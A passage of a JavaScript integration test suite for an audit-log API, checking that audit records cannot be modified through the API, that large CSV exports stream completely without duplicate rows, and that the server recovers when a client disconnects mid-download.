      const r = await as(srv, s.auditor, path, { method, body: method === 'DELETE' ? undefined : {} });
      assert.equal(r.status, 405, `${method} ${path}`);
    }
  }
  for (const method of ['GET', 'PUT', 'DELETE']) {
    const r = await as(srv, s.auditor, '/api/v1/audit/1', { method, body: method === 'PUT' ? {} : undefined });
    assert.equal(r.status, 404, `${method} /api/v1/audit/1`);
  }
  const v = runVerb(srv.env, 'audit-verify');
  assert.equal(v.status, 0, v.stdout + v.stderr);
});

test('a big export streams thousands of rows completely', async () => {
  const target = await createUser();
  // A cheap audited action, many times over, through the API (the hash chain forbids direct
  // inserts). One at a time: on PostgreSQL concurrent writers of the chain retry on serialization
  // failures, and a burst of them can run out of retries (503 busy), which is not what this tests.
  const N = 2100;
  for (let i = 0; i < N; i++) {
    const r = await as(srv, s.admin, `/api/v1/users/${target.id}/unlock`, { method: 'POST' });
    assert.equal(r.status, 200, r.text);
  }
  const day = today();
  const r = await exportCsv(s.auditor, `from=${day}&to=${day}&action=user_unlock`);
  assert.equal(r.status, 200);
  const rows = parseCsv(r.buf.subarray(3).toString('utf8'));
  const expected = Number(sql("SELECT COUNT(*) FROM audit_log WHERE action = 'user_unlock'"));
  assert.ok(expected >= N);
  assert.equal(rows.length - 1, expected);
  const ids = new Set(rows.slice(1).map((x) => x[7]));
  assert.equal(ids.size, expected, 'no row twice across pages');
  const all = await exportCsv(s.auditor, `from=${day}&to=${day}`);
  const allRows = parseCsv(all.buf.subarray(3).toString('utf8'));
  assert.equal(allRows.length - 1, Number(sql('SELECT COUNT(*) FROM audit_log')));
  // A client that goes away mid-download: the server lets go of the export (no leak under ASan)
  // and carries on.
  const got = await new Promise((ok, fail) => {
    const r2 = http.get(`${srv.url}/api/v1/audit/export?from=${day}&to=${day}`, { headers: { cookie: s.auditor.cookie } }, (res) => {
      assert.equal(res.headers['transfer-encoding'], 'chunked');
      res.once('data', (d) => { r2.destroy(); ok(d.length); });
    });
    r2.on('error', (e) => { if (e.code !== 'ECONNRESET') fail(e); });
  });
  assert.ok(got > 0);
  assert.equal((await as(srv, s.auditor, '/api/v1/audit?size=1')).status, 200);
  const v = runVerb(srv.env, 'audit-verify');
  assert.equal(v.status, 0, v.stdout + v.stderr);
});
